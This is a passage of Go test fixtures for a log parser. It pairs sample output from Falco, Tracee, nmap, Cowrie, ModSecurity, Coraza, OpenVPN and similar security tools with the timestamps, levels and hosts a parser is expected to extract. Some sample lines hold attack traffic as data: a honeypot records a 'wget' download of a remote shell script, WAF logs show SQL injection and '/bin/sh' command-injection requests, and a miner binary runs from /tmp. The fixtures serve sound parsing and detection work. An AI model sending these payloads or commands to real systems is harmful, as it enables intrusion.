			we("2026-11-29T07:41:16Z", Unknown, "", "Sun Nov 29 07:41:16 2026: Falco initialized with configuration files:"),
			we("2026-11-29T07:41:16Z", Unknown, "", "Sun Nov 29 07:41:16 2026:    /etc/falco/falco.yaml | schema validation: ok"),
			we("2026-11-29T07:41:16Z", Unknown, "", "Sun Nov 29 07:41:16 2026: Loading rules from:"),
			we("2026-11-29T07:41:17Z", Unknown, "", "Sun Nov 29 07:41:17 2026: The chosen syscall buffer dimension is: 8388608 bytes (8 MBs)"),
			we("2026-11-29T07:41:17Z", Unknown, "", "Sun Nov 29 07:41:17 2026: Opening 'syscall' source with modern BPF probe."),
		},
	},
	{
		name:   "falcosidekick-log",
		source: "Falcosidekick's log on stdout (Go's log with a date and time, then `[LEVEL] : msg`, the output's name before its message): falcosecurity/falcosidekick README and issues pasting pod logs; from memory of real lines. No earlier table holds Falcosidekick",
		why:    "Go's slashed date and time, then a bracketed level padded before a colon",
		entries: []worldEntry{
			we("2026-11-29T07:41:16Z", Info, "", "2026/11/29 07:41:16 [INFO]  : Falcosidekick version: 2.29.0"),
			we("2026-11-29T07:41:16Z", Info, "", "2026/11/29 07:41:16 [INFO]  : Enabled Outputs: [Slack Loki]"),
			we("2026-11-29T07:41:16Z", Info, "", "2026/11/29 07:41:16 [INFO]  : Falcosidekick is up and listening on :2801"),
			we("2026-11-29T07:41:20Z", Info, "", "2026/11/29 07:41:20 [INFO]  : Slack - POST OK (200)"),
			we("2026-11-29T07:41:21Z", Error, "", `2026/11/29 07:41:21 [ERROR] : Loki - Post "http://loki.monitoring:3100/loki/api/v1/push": dial tcp 10.96.4.12:3100: connect: connection refused`),
		},
	},
	{
		name:   "tracee-table-output",
		source: "Aqua Tracee's default table output (`tracee --output table`: a header row `TIME UID COMM PID TID RET EVENT ARGS`, then the time of day as HH:mm:ss:uuuuuu with a colon before the microseconds): aquasecurity/tracee PR #3792 pasting the table. Tracee's JSON output is an earlier table's",
		why:    "a bare time of day whose microseconds follow a colon; the UID, PID and TID columns are numbers; no level, no host",
		entries: []worldEntry{
			wskip("TIME             UID    COMM             PID     TID     RET              EVENT                     ARGS"),
			we("2026-11-29T07:41:16.412345Z", Unknown, "", "07:41:16:412345  0      curl             4120    4120    0                security_socket_connect   sockfd: 5, remote_addr: map[sa_family:AF_INET sin_addr:203.0.113.9 sin_port:443], remote_addr_type: AF_INET"),
			we("2026-11-29T07:41:17.004512Z", Unknown, "", "07:41:17:004512  1000   strace           4133    4133    0                anti_debugging            triggeredBy: ptrace"),
			we("2026-11-29T07:41:18.220011Z", Unknown, "", "07:41:18:220011  0      bash             4001    4001    0                sched_process_exec        cmdpath: /tmp/xmrig, pathname: /tmp/xmrig, dev: 2049, inode: 131078, invoked_from_kernel: 0"),
		},
	},
	{
		name:   "tetragon-compact",
		source: "Cilium Tetragon's compact event view (`kubectl exec … -- tetra getevents -o compact`: an emoji, the event kind padded, namespace/pod, the binary and its arguments, the exit code on exit): tetragon.io 'Getting started' (Execution monitoring); from memory of real output. Tetragon's JSON export is an earlier table's",
		why:    "lines with no time, no level and no host: a pod name is no host",
		entries: []worldEntry{
			we("", Unknown, "", "🚀 process default/xwing /usr/bin/curl -Lv https://ebpf.io/applications/#tetragon"),
			we("", Unknown, "", "🔌 connect default/xwing /usr/bin/curl tcp 10.244.1.7:41932 -> 104.198.14.52:443"),
			we("", Unknown, "", "🧹 close   default/xwing /usr/bin/curl tcp 10.244.1.7:41932 -> 104.198.14.52:443"),
			we("", Unknown, "", "💥 exit    default/xwing /usr/bin/curl -Lv https://ebpf.io/applications/#tetragon 60"),
		},
	},
	{
		name:   "sysmon-linux-logview",
		source: "Sysmon for Linux's events as /opt/sysmon/sysmonLogView prints them from syslog (`Event SYSMONEVENT_…` then one tab-indented `Field: value` line per event field, UtcTime among them): microsoft/SysmonForLinux README (sysmonLogView) and issue #60 on UtcTime; from memory of real output. Sysmon for Linux's raw XML through syslog is an earlier table's",
		why:    "a block whose time is the UtcTime field on its third line; 'IntegrityLevel: no level' is a field, not a level; each event is one record",
		entries: []worldEntry{
			we("2026-11-29T07:41:16.412Z", Unknown, "",
				"Event SYSMONEVENT_CREATE_PROCESS",
				"\tRuleName: -",
				"\tUtcTime: 2026-11-29 07:41:16.412",
				"\tProcessGuid: {5e1c3a2b-0c4d-6749-a1b2-c3d4e5f60718}",
				"\tProcessId: 4120",
				"\tImage: /usr/bin/curl",
				"\tCommandLine: curl -s https://example.net/install.sh",
				"\tCurrentDirectory: /tmp",
				"\tUser: root",
				"\tIntegrityLevel: no level",
				"\tParentProcessId: 4001",
				"\tParentImage: /usr/bin/bash"),
			we("2026-11-29T07:41:16.530Z", Unknown, "",
				"Event SYSMONEVENT_NETWORK_CONNECT",
				"\tRuleName: -",
				"\tUtcTime: 2026-11-29 07:41:16.530",
				"\tProcessGuid: {5e1c3a2b-0c4d-6749-a1b2-c3d4e5f60718}",
				"\tProcessId: 4120",
				"\tImage: /usr/bin/curl",
				"\tUser: root",
				"\tProtocol: tcp",
				"\tInitiated: true",
				"\tSourceIp: 10.0.0.5",
				"\tSourcePort: 51236",
				"\tDestinationIp: 198.51.100.20",
				"\tDestinationPort: 443"),
			we("2026-11-29T07:41:17.004Z", Unknown, "",
				"Event SYSMONEVENT_PROCESS_TERMINATE",
				"\tRuleName: -",
				"\tUtcTime: 2026-11-29 07:41:17.004",
				"\tProcessGuid: {5e1c3a2b-0c4d-6749-a1b2-c3d4e5f60718}",
				"\tProcessId: 4120",
				"\tImage: /usr/bin/curl",
				"\tUser: root"),
		},
	},

	// Scanners: nmap's own output files, the Greenbone web daemon, Nikto.
	{
		name:   "nmap-normal-output",
		source: "nmap's normal output file (-oN: a `# Nmap version scan initiated Www Mmm dd HH:mm:ss yyyy as: command` comment, a `Nmap scan report for` block per host, a blank line after each, `# Nmap done at …` last): nmap.org book 'Output' (-oN); from memory of real files. No earlier table holds nmap's output",
		why:    "the opening and closing comments carry ctime dates; a host block has no time and its scanned host is no host of the writer",
		gap:    "the ctime date inside `# Nmap … scan initiated Www Mmm dd HH:mm:ss yyyy as:` and `# Nmap done at …` is not read, and a `Nmap scan report for` block is cut into single lines instead of one record",
		entries: []worldEntry{
			we("2026-11-29T07:41:16Z", Unknown, "", "# Nmap 7.94SVN scan initiated Sun Nov 29 07:41:16 2026 as: nmap -sV -oN scan-dmz.txt 10.20.0.0/28"),
			we("", Unknown, "",
				"Nmap scan report for web01.dmz.example.org (10.20.0.5)",
				"Host is up (0.00042s latency).",
				"Not shown: 997 closed tcp ports (reset)",
				"PORT    STATE SERVICE  VERSION",
				"22/tcp  open  ssh      OpenSSH 9.6p1 Ubuntu 3ubuntu13.5 (Ubuntu Linux; protocol 2.0)",
				"80/tcp  open  http     nginx 1.24.0 (Ubuntu)",
				"443/tcp open  ssl/http nginx 1.24.0 (Ubuntu)",
				"MAC Address: 52:54:00:3A:1C:05 (QEMU virtual NIC)",
				"Service Info: OS: Linux; CPE: cpe:/o:linux:linux_kernel",
				""),
			we("", Unknown, "",
				"Nmap scan report for 10.20.0.9",
				"Host is up (0.00051s latency).",
				"All 1000 scanned ports on 10.20.0.9 are in ignored states.",
				"Not shown: 1000 filtered tcp ports (no-response)",
				"MAC Address: 52:54:00:3A:1C:09 (QEMU virtual NIC)",
				""),
			we("", Unknown, "", "Service detection performed. Please report any incorrect results at https://nmap.org/submit/ ."),
			we("2026-11-29T07:42:30Z", Unknown, "", "# Nmap done at Sun Nov 29 07:42:30 2026 -- 16 IP addresses (2 hosts up) scanned in 74.21 seconds"),
		},
	},
	{
		name:   "nmap-grepable-output",
		source: "nmap's grepable output file (-oG: the same opening and closing comments, then `Host: ip (name)<TAB>Status: Up` and `Host: ip (name)<TAB>Ports: port/state/proto//service//version/, …<TAB>Ignored State: …` lines): nmap.org book 'Grepable Output (-oG)'; from memory of real files",
		why:    "a line starting `Host:` names the scanned target, not the writer; only the comments carry a time",
		entries: []worldEntry{
			we("2026-11-29T07:41:16Z", Unknown, "", "# Nmap 7.94SVN scan initiated Sun Nov 29 07:41:16 2026 as: nmap -sV -oG scan-dmz.gnmap 10.20.0.0/28"),
			we("", Unknown, "", "Host: 10.20.0.5 (web01.dmz.example.org)\tStatus: Up"),
			we("", Unknown, "", "Host: 10.20.0.5 (web01.dmz.example.org)\tPorts: 22/open/tcp//ssh//OpenSSH 9.6p1 Ubuntu 3ubuntu13.5 (Ubuntu Linux; protocol 2.0)/, 80/open/tcp//http//nginx 1.24.0 (Ubuntu)/, 443/open/tcp//ssl|http//nginx 1.24.0 (Ubuntu)/\tIgnored State: closed (997)"),
			we("", Unknown, "", "Host: 10.20.0.9 ()\tStatus: Up"),
			we("2026-11-29T07:42:30Z", Unknown, "", "# Nmap done at Sun Nov 29 07:42:30 2026 -- 16 IP addresses (2 hosts up) scanned in 74.21 seconds"),
		},
	},
	{
		name:   "gsad-log",
		source: "Greenbone Security Assistant daemon's /var/log/gvm/gsad.log (GLib logging through gvm-libs like gvmd's: `domain module:LEVEL:yyyy-MM-dd HHhMM.SS zone:pid: msg`, levels DEBUG INFO MESSAGE WARNING CRITICAL): gvm-libs base/logging.c (the time format) and greenbone/gsad issues pasting gsad.log; from memory of real lines. gvmd.log, openvas.log and ospd-openvas.log are earlier tables'; gsad's file is in none",
		why:    "an hour-h-minute-dot-second time with the zone before the pid; GLib's MESSAGE is Notice",
		entries: []worldEntry{
			we("2026-11-29T07:41:16Z", Notice, "", "gsad   main:MESSAGE:2026-11-29 07h41.16 utc:1201: Starting GSAD version 22.12.0"),
			we("2026-11-29T07:41:40Z", Warn, "", "gsad    gmp:WARNING:2026-11-29 07h41.40 utc:1201: Authentication failure for 'admin' from 10.0.0.5. Status was 2."),
			we("2026-11-29T07:41:52Z", Info, "", "gsad    gmp:   INFO:2026-11-29 07h41.52 utc:1201: Authentication success for 'admin' from 10.0.0.5"),
			we("2026-11-29T07:42:05Z", Critical, "", "gsad    gmp:CRITICAL:2026-11-29 07h42.05 utc:1201: gvm_connection_open: failed to connect to manager on /run/gvmd/gvmd.sock: Connection refused"),
		},
	},
	{
		name:   "nikto-console",
		source: "Nikto 2.5's console output (a `- Nikto v…` banner, dashed rules, `+ Target …:` lines, `+ Start Time:` and `+ End Time:` with `yyyy-MM-dd HH:mm:ss (GMT0)`, one `+ ` line per finding): sullo/nikto README and issues pasting scan output; from memory of real output. No earlier table holds Nikto",
		why:    "only the start and end lines carry a time, with a GMT0 zone in parentheses; the target host name is the scanned site, no host",
		entries: []worldEntry{
			we("", Unknown, "", "- Nikto v2.5.0"),
			wskip("---------------------------------------------------------------------------"),
			we("", Unknown, "", "+ Target IP:          10.20.0.5"),
			we("", Unknown, "", "+ Target Hostname:    web01.dmz.example.org"),
			we("", Unknown, "", "+ Target Port:        80"),
			we("2026-11-29T07:41:16Z", Unknown, "", "+ Start Time:         2026-11-29 07:41:16 (GMT0)"),
			wskip("---------------------------------------------------------------------------"),
			we("", Unknown, "", "+ Server: nginx/1.24.0 (Ubuntu)"),
			we("", Unknown, "", "+ /: The anti-clickjacking X-Frame-Options header is not present. See: https://developer.mozilla.org/en-US/docs/Web/HTTP/Headers/X-Frame-Options"),
			we("", Unknown, "", "+ 8102 requests: 0 error(s) and 3 item(s) reported on remote host"),
			we("2026-11-29T07:42:30Z", Unknown, "", "+ End Time:           2026-11-29 07:42:30 (GMT0) (74 seconds)"),
		},
	},

	// Honeypots and WAFs: the JSON and CSV files, the other audit formats, the connectors' error lines.
	{
		name:   "cowrie-json",
		source: "the Cowrie honeypot's var/log/cowrie/cowrie.json (one object a line: eventid, the event's fields, message, sensor, timestamp with microseconds and Z, src_ip, session): cowrie/cowrie issues #807, #959 and #1479 and wazuh/wazuh-ruleset PR #186 pasting cowrie.json. Cowrie's text log is an earlier table's",
		why:    "sensor is the honeypot's own host name; src_ip is the attacker",
		gap:    "the sensor key, the honeypot's own name, is not taken for the host",
		entries: []worldEntry{
			we("2026-11-29T07:41:16.412345Z", Unknown, "hp-sensor-01", `{"eventid":"cowrie.session.connect","src_ip":"203.0.113.45","src_port":51234,"dst_ip":"10.30.0.2","dst_port":2222,"session":"a1b2c3d4e5f6","protocol":"ssh","message":"New connection: 203.0.113.45:51234 (10.30.0.2:2222) [session: a1b2c3d4e5f6]","sensor":"hp-sensor-01","timestamp":"2026-11-29T07:41:16.412345Z"}`),
			we("2026-11-29T07:41:18.004512Z", Unknown, "hp-sensor-01", `{"eventid":"cowrie.login.failed","username":"root","password":"123456","message":"login attempt [root/123456] failed","sensor":"hp-sensor-01","timestamp":"2026-11-29T07:41:18.004512Z","src_ip":"203.0.113.45","session":"a1b2c3d4e5f6"}`),
			we("2026-11-29T07:41:21.220011Z", Unknown, "hp-sensor-01", `{"eventid":"cowrie.command.input","input":"uname -a; wget http://198.51.100.66/x.sh","message":"CMD: uname -a; wget http://198.51.100.66/x.sh","sensor":"hp-sensor-01","timestamp":"2026-11-29T07:41:21.220011Z","src_ip":"203.0.113.45","session":"a1b2c3d4e5f6"}`),
			we("2026-11-29T07:41:30.991200Z", Unknown, "hp-sensor-01", `{"eventid":"cowrie.session.closed","duration":"14.6","message":"Connection lost after 14.6 seconds","sensor":"hp-sensor-01","timestamp":"2026-11-29T07:41:30.991200Z","src_ip":"203.0.113.45","session":"a1b2c3d4e5f6"}`),
		},
	},
	{
		name:   "heralding-auth-csv",
		source: "the Heralding credentials honeypot's log_auth.csv (a header row, then `timestamp,auth_id,session_id,source_ip,source_port,destination_ip,destination_port,protocol,username,password,password_hash`, the time naive UTC with microseconds): johnnykv/heralding README (log files) and heralding.yml; from memory of real lines. No earlier table holds Heralding",
		why:    "a CSV whose first column is a zone-less time; the header row is no record",
		entries: []worldEntry{
			wskip("timestamp,auth_id,session_id,source_ip,source_port,destination_ip,destination_port,protocol,username,password,password_hash"),
			we("2026-11-29T07:41:16.412345Z", Unknown, "", "2026-11-29 07:41:16.412345,5c1e9a7b-2d4f-4e1a-9b3c-7d8e0f1a2b3c,9a7b6c5d-4e3f-4a2b-8c1d-0e9f8a7b6c5d,203.0.113.45,51234,10.30.0.3,22,ssh,root,123456,"),
			we("2026-11-29T07:41:17.004512Z", Unknown, "", "2026-11-29 07:41:17.004512,7d8e0f1a-2b3c-4d5e-8f6a-1b2c3d4e5f60,1b2c3d4e-5f60-4718-92a3-b4c5d6e7f809,198.51.100.7,40112,10.30.0.3,21,ftp,anonymous,guest@example.com,"),
			we("2026-11-29T07:41:19.991200Z", Unknown, "", "2026-11-29 07:41:19.991200,2b3c4d5e-6f70-4819-a2b3-c4d5e6f70819,3c4d5e6f-7081-492a-b3c4-d5e6f708192a,203.0.113.45,51290,10.30.0.3,3389,rdp,administrator,,"),
		},
	},
	{
		name:   "modsecurity3-audit-json",
		source: "libmodsecurity 3's audit log with `SecAuditLogFormat JSON` (one object a line under transaction: client_ip, time_stamp as a ctime date with no zone, server_id, host_ip, host_port, unique_id, request with its headers, response, producer, messages with the CRS severity): owasp-modsecurity/ModSecurity issues #1331, #1625, #2054 and #2161 pasting JSON audit records. ModSecurity 2's serial audit log and debug log are earlier tables'",
		why:    "a ctime time_stamp inside nested JSON; the Host header and host_ip are the site and the local address, no host field; a message's severity is the rule's, no level",
		entries: []worldEntry{
			we("2026-11-29T07:41:16Z", Unknown, "", `{"transaction":{"client_ip":"203.0.113.45","time_stamp":"Sun Nov 29 07:41:16 2026","server_id":"6ab1c7e0d2f94a3b8c1d0e9f7a6b5c4d3e2f1a0b","client_port":51234,"host_ip":"10.0.0.10","host_port":443,"unique_id":"179593807641.234567","request":{"method":"GET","http_version":1.1,"uri":"/?id=1%27%20or%201=1","headers":{"Host":"www.example.org","User-Agent":"sqlmap/1.8.11#stable (https://sqlmap.org)","Accept":"*/*"}},"response":{"http_code":403,"headers":{"Server":"nginx","Content-Type":"text/html"}},"producer":{"modsecurity":"ModSecurity v3.0.13 (Linux)","connector":"ModSecurity-nginx v1.0.3","secrules_engine":"Enabled","components":["OWASP_CRS/4.7.0\""]},"messages":[{"message":"SQL Injection Attack Detected via libinjection","details":{"match":"detected SQLi using libinjection.","reference":"v9,11","ruleId":"942100","file":"/etc/nginx/modsec/coreruleset/rules/REQUEST-942-APPLICATION-ATTACK-SQLI.conf","lineNumber":"46","data":"Matched Data: s&1c found within ARGS:id: 1' or 1=1","severity":"2","ver":"OWASP_CRS/4.7.0","rev":"","tags":["application-multi","language-multi","platform-multi","attack-sqli"],"maturity":"0","accuracy":"0"}}]}}`),
			we("2026-11-29T07:41:19Z", Unknown, "", `{"transaction":{"client_ip":"198.51.100.7","time_stamp":"Sun Nov 29 07:41:19 2026","server_id":"6ab1c7e0d2f94a3b8c1d0e9f7a6b5c4d3e2f1a0b","client_port":40112,"host_ip":"10.0.0.10","host_port":443,"unique_id":"179593807974.991200","request":{"method":"POST","http_version":2.0,"uri":"/wp-login.php","headers":{"host":"blog.example.org","user-agent":"python-requests/2.32.3","content-type":"application/x-www-form-urlencoded"}},"response":{"http_code":200,"headers":{}},"producer":{"modsecurity":"ModSecurity v3.0.13 (Linux)","connector":"ModSecurity-nginx v1.0.3","secrules_engine":"DetectionOnly","components":["OWASP_CRS/4.7.0\""]},"messages":[]}}`),
		},
	},
	{
		name:   "modsecurity-concurrent-index",
		source: "ModSecurity 2's audit log index with `SecAuditLogType Concurrent` (the SecAuditLog file holds one line per transaction: `host client-ip - user [dd/Mmm/yyyy:HH:mm:ss ±zzzz] \"request\" status bytes \"referer\" \"user-agent\" unique-id \"session\" /path/of/the/part/file offset size md5:hash`, the parts in their own files under SecAuditLogStorageDir): ModSecurity Reference Manual v2.x (SecAuditLogType, 'Concurrent audit log index'); from memory of real lines. The Serial audit log is an earlier table's",
		why:    "an access-log-like line whose first field is the virtual host, not the machine; the bracketed time has a +0100 offset",
		entries: []worldEntry{
			we("2026-11-29T07:41:16Z", Unknown, "", `www.example.org 203.0.113.45 - - [29/Nov/2026:08:41:16 +0100] "GET /?id=1%27%20or%201=1 HTTP/1.1" 403 199 "-" "sqlmap/1.8.11#stable (https://sqlmap.org)" Z2m7fKwRAAEAAAB4Aa0AAAAB "-" /20261129/20261129-0841/20261129-084116-Z2m7fKwRAAEAAAB4Aa0AAAAB 0 1843 md5:3c8e0b2a9d1f4e5a6b7c8d9e0f1a2b3c`),
			we("2026-11-29T07:41:19Z", Unknown, "", `blog.example.org 198.51.100.7 - - [29/Nov/2026:08:41:19 +0100] "POST /wp-login.php HTTP/1.1" 200 4120 "https://blog.example.org/wp-login.php" "python-requests/2.32.3" Z2m7f6wRAAEAAAB4Aa4AAAAC "-" /20261129/20261129-0841/20261129-084119-Z2m7f6wRAAEAAAB4Aa4AAAAC 0 2211 md5:9f1e2d3c4b5a69788796a5b4c3d2e1f0`),
		},
	},
	{
		name:   "modsecurity-nginx-error-log",
		source: "ModSecurity-nginx's messages in nginx's error.log (`yyyy/MM/dd HH:mm:ss [level] pid#tid: *conn [client ip] ModSecurity: Access denied with code 403 (phase 2). Matched \"Operator …\" … [file \"…\"] [line \"…\"] [id \"…\"] … [severity \"n\"] … [hostname \"…\"] [uri \"…\"] [unique_id \"…\"] [ref \"…\"], client: …, server: …, request: \"…\", host: \"…\"`, warn for a detection-only match): owasp-modsecurity/ModSecurity issue #3174 and ModSecurity-nginx issues pasting error.log; from memory of real lines. nginx's error log with NAXSI is an earlier table's; ModSecurity's lines in it are not",
		why:    "nginx's bracketed level is the level; ModSecurity's [severity \"2\"] and [hostname \"…\"] inside are the rule's and the server address, no level and no host",
		entries: []worldEntry{
			we("2026-11-29T07:41:16Z", Error, "", "2026/11/29 07:41:16 [error] 1201#1201: *4411 [client 203.0.113.45] ModSecurity: Access denied with code 403 (phase 2). Matched \"Operator `Ge' with parameter `5' against variable `TX:BLOCKING_INBOUND_ANOMALY_SCORE' (Value: `5' ) [file \"/etc/nginx/modsec/coreruleset/rules/REQUEST-949-BLOCKING-EVALUATION.conf\"] [line \"222\"] [id \"949110\"] [rev \"\"] [msg \"Inbound Anomaly Score Exceeded (Total Score: 5)\"] [data \"\"] [severity \"0\"] [ver \"OWASP_CRS/4.7.0\"] [maturity \"0\"] [accuracy \"0\"] [tag \"anomaly-evaluation\"] [hostname \"10.0.0.10\"] [uri \"/\"] [unique_id \"179593807641.234567\"] [ref \"\"], client: 203.0.113.45, server: www.example.org, request: \"GET /?id=1%27%20or%201=1 HTTP/1.1\", host: \"www.example.org\""),
			we("2026-11-29T07:41:19Z", Warn, "", "2026/11/29 07:41:19 [warn] 1201#1201: *4420 [client 198.51.100.7] ModSecurity: Warning. Matched \"Operator `PmFromFile' with parameter `unix-shell.data' against variable `ARGS:cmd' (Value: `/bin/sh' ) [file \"/etc/nginx/modsec/coreruleset/rules/REQUEST-932-APPLICATION-ATTACK-RCE.conf\"] [line \"556\"] [id \"932160\"] [rev \"\"] [msg \"Remote Command Execution: Unix Shell Code Found\"] [data \"Matched Data: bin/sh found within ARGS:cmd: /bin/sh\"] [severity \"2\"] [ver \"OWASP_CRS/4.7.0\"] [maturity \"0\"] [accuracy \"0\"] [tag \"attack-rce\"] [hostname \"10.0.0.10\"] [uri \"/tools/ping\"] [unique_id \"179593807974.991200\"] [ref \"o1,7v17,7\"], client: 198.51.100.7, server: www.example.org, request: \"GET /tools/ping?cmd=/bin/sh HTTP/1.1\", host: \"www.example.org\""),
			we("2026-11-29T07:41:22Z", Emergency, "", "2026/11/29 07:41:22 [emerg] 1188#1188: \"modsecurity_rules_file\" directive Rules error. File: /etc/nginx/modsec/main.conf. Line: 3. Column: 45. Failed to open file: /etc/nginx/modsec/crs-setup.conf in /etc/nginx/conf.d/waf.conf:4"),
		},
	},
	{
		name:   "coraza-caddy-json",
		source: "Coraza WAF in Caddy (coraza-caddy's messages through Caddy's zap JSON logger: level, ts as float epoch seconds, logger http.handlers.waf, msg with `[client \"…\"] Coraza: Warning. … [severity \"critical\"] … [hostname \"…\"] [uri \"…\"] [unique_id \"…\"]`): corazawaf/coraza-caddy README and issues pasting Caddy output; from memory of real lines. Caddy's own JSON logs are earlier tables'; Coraza is in none",
		why:    "Caddy's float epoch and level key; the rule's [severity \"critical\"] in the message is no level; the request's host is the site",
		entries: []worldEntry{
			we("2026-11-29T07:41:16.412345Z", Error, "", `{"level":"error","ts":1795938076.412345,"logger":"http.handlers.waf","msg":"[client \"203.0.113.45\"] Coraza: Warning. SQL Injection Attack Detected via libinjection [file \"@owasp_crs/REQUEST-942-APPLICATION-ATTACK-SQLI.conf\"] [line \"46\"] [id \"942100\"] [rev \"\"] [msg \"SQL Injection Attack Detected via libinjection\"] [data \"Matched Data: s&1c found within ARGS_GET:id: 1' or 1=1\"] [severity \"critical\"] [ver \"OWASP_CRS/4.7.0\"] [maturity \"0\"] [accuracy \"0\"] [tag \"attack-sqli\"] [hostname \"10.0.0.10\"] [uri \"/?id=1%27%20or%201=1\"] [unique_id \"XkPqLmNoPqRsTuVw\"]"}`),
			we("2026-11-29T07:41:16.413100Z", Error, "", `{"level":"error","ts":1795938076.4131,"logger":"http.log.error","msg":"interruption triggered","request":{"remote_ip":"203.0.113.45","remote_port":"51234","client_ip":"203.0.113.45","proto":"HTTP/2.0","method":"GET","host":"www.example.org","uri":"/?id=1%27%20or%201=1"},"duration":0.001204,"status":403,"err_id":"k1m2n3p4q","err_trace":"coraza.(*middleware).ServeHTTP (coraza.go:145)"}`),
			we("2026-11-29T07:41:19.004512Z", Info, "", `{"level":"info","ts":1795938079.004512,"logger":"http.handlers.waf","msg":"Coraza WAF is running in detection-only mode","directives_file":"/etc/caddy/coraza.conf"}`),
		},
	},

	// VPN and identity: OpenVPN's, WireGuard's and strongSwan's other outputs, Keycloak's and Authelia's JSON, the CA of a FreeIPA server.
	{
		name:   "openvpn-status-v1",
		source: "the OpenVPN server's status file in the default --status-version 1 (`OpenVPN CLIENT LIST`, `Updated,yyyy-MM-dd HH:mm:ss`, a column row, one row per client with `Connected Since`, `ROUTING TABLE`, a column row, one row per route with `Last Ref`, `GLOBAL STATS`, `END`; 2.5+ writes ISO-like times): openvpn(8) --status and --status-version; from memory of real files. status-version 2 is an earlier table's",
		why:    "Updated carries the file's time; a client's Connected Since and a route's Last Ref are their rows' own times; the section titles and column rows are headers",
		gap:    "the header rows are joined to the row above them (the client column row to Updated, the ROUTING TABLE title and column row to the last client row), and GLOBAL STATS, its counter and END to the last route, so those two have no entry of their own",
		entries: []worldEntry{
			wskip("OpenVPN CLIENT LIST"),
			we("2026-11-29T07:41:16Z", Unknown, "", "Updated,2026-11-29 07:41:16"),
			wskip("Common Name,Real Address,Bytes Received,Bytes Sent,Connected Since"),
			we("2026-11-29T06:12:40Z", Unknown, "", "alice,203.0.113.45:51234,1204411,8812345,2026-11-29 06:12:40"),
			we("2026-11-29T07:30:02Z", Unknown, "", "bob,198.51.100.7:40112,41207,412041,2026-11-29 07:30:02"),
			wskip("ROUTING TABLE",
				"Virtual Address,Common Name,Real Address,Last Ref"),
			we("2026-11-29T07:41:10Z", Unknown, "", "10.8.0.6,alice,203.0.113.45:51234,2026-11-29 07:41:10"),
			we("2026-11-29T07:41:12Z", Unknown, "", "10.8.0.10,bob,198.51.100.7:40112,2026-11-29 07:41:12"),
			wskip("GLOBAL STATS"),
			we("", Unknown, "", "Max bcast/mcast queue length,0"),
			we("", Unknown, "", "END"),
		},
	},
	{
		name:   "openvpn-server-journal",
		source: "the OpenVPN 2.6 server under systemd (openvpn-server@server.service runs with --suppress-timestamps, so its lines reach the journal bare; `journalctl -u openvpn-server@server` short format: `Mmm dd HH:mm:ss host openvpn[pid]: [cn/]addr:port msg`): the openvpn-server@.service unit file and openvpn(8) --suppress-timestamps; from memory of real lines. OpenVPN's --log file with its ctime prefix is an earlier table's",
		why:    "the journal header's host is the server; a client's address and common name before the message are peers",
		entries: []worldEntry{
			we("2026-11-29T07:41:16Z", Unknown, "vpn1", "Nov 29 07:41:16 vpn1 openvpn[1201]: 203.0.113.45:51234 peer info: IV_VER=2.6.12"),
			we("2026-11-29T07:41:16Z", Unknown, "vpn1", "Nov 29 07:41:16 vpn1 openvpn[1201]: 203.0.113.45:51234 VERIFY OK: depth=0, CN=alice"),
			we("2026-11-29T07:41:16Z", Unknown, "vpn1", "Nov 29 07:41:16 vpn1 openvpn[1201]: alice/203.0.113.45:51234 MULTI_sva: pool returned IPv4=10.8.0.6, IPv6=(Not enabled)"),
			we("2026-11-29T07:41:17Z", Unknown, "vpn1", "Nov 29 07:41:17 vpn1 openvpn[1201]: alice/203.0.113.45:51234 SENT CONTROL [alice]: 'PUSH_REPLY,route-gateway 10.8.0.1,topology subnet,ping 10,ping-restart 120,ifconfig 10.8.0.6 255.255.255.0,peer-id 0,cipher AES-256-GCM' (status=1)"),
			we("2026-11-29T07:42:16Z", Unknown, "vpn1", "Nov 29 07:42:16 vpn1 openvpn[1201]: 198.51.100.7:40112 TLS Error: TLS key negotiation failed to occur within 60 seconds (check your network connectivity)"),
		},
	},
	{
		name:   "wg-quick-journal",
		source: "wg-quick@wg0.service in the journal (`journalctl -u wg-quick@wg0` short format: systemd's unit lines and wg-quick's `[#] command` echo of every command it runs): wg-quick(8) and the wg-quick@.service unit; from memory of real lines. WireGuard's kernel, Windows and wireguard-go logs are earlier tables'; wg-quick's is in none",
		why:    "a journal header with the gateway's name; `[#]` before a command is no level",
		entries: []worldEntry{
			we("2026-11-29T07:41:16Z", Unknown, "gw1", "Nov 29 07:41:16 gw1 systemd[1]: Starting wg-quick@wg0.service - WireGuard via wg-quick(8) for wg0..."),
			we("2026-11-29T07:41:16Z", Unknown, "gw1", "Nov 29 07:41:16 gw1 wg-quick[1201]: [#] ip link add wg0 type wireguard"),
			we("2026-11-29T07:41:16Z", Unknown, "gw1", "Nov 29 07:41:16 gw1 wg-quick[1201]: [#] wg setconf wg0 /dev/fd/63"),
			we("2026-11-29T07:41:16Z", Unknown, "gw1", "Nov 29 07:41:16 gw1 wg-quick[1201]: [#] ip -4 address add 10.9.0.1/24 dev wg0"),
			we("2026-11-29T07:41:16Z", Unknown, "gw1", "Nov 29 07:41:16 gw1 wg-quick[1201]: [#] iptables -A FORWARD -i wg0 -j ACCEPT; iptables -t nat -A POSTROUTING -o eth0 -j MASQUERADE"),
			we("2026-11-29T07:41:17Z", Unknown, "gw1", "Nov 29 07:41:17 gw1 systemd[1]: Finished wg-quick@wg0.service - WireGuard via wg-quick(8) for wg0."),
		},
	},
	{
		name:   "strongswan-charon-syslog",
		source: "strongSwan's charon through syslog (its default: the daemon facility, `charon: NN[SUBSYS] msg` with the thread number and subsystem, as rsyslog writes /var/log/syslog or auth.log): docs.strongswan.org 'Logger Configuration' (syslog loggers) and strongswan issues pasting charon lines; from memory of real lines. charon's filelog with its own time format is an earlier table's",
		why:    "the syslog header's host is the gateway; the thread number and [IKE] subsystem are no level",
		entries: []worldEntry{
			we("2026-11-29T07:41:16Z", Unknown, "gw1", "Nov 29 07:41:16 gw1 charon: 07[NET] received packet: from 203.0.113.45[500] to 10.0.0.1[500] (464 bytes)"),
			we("2026-11-29T07:41:16Z", Unknown, "gw1", "Nov 29 07:41:16 gw1 charon: 07[ENC] parsed IKE_SA_INIT request 0 [ SA KE No N(NATD_S_IP) N(NATD_D_IP) N(FRAG_SUP) N(HASH_ALG) N(REDIR_SUP) ]"),
			we("2026-11-29T07:41:16Z", Unknown, "gw1", "Nov 29 07:41:16 gw1 charon: 07[IKE] 203.0.113.45 is initiating an IKE_SA"),
			we("2026-11-29T07:41:17Z", Unknown, "gw1", "Nov 29 07:41:17 gw1 charon: 09[IKE] IKE_SA roadwarrior[3] established between 10.0.0.1[gw1.example.org]...203.0.113.45[alice@example.org]"),
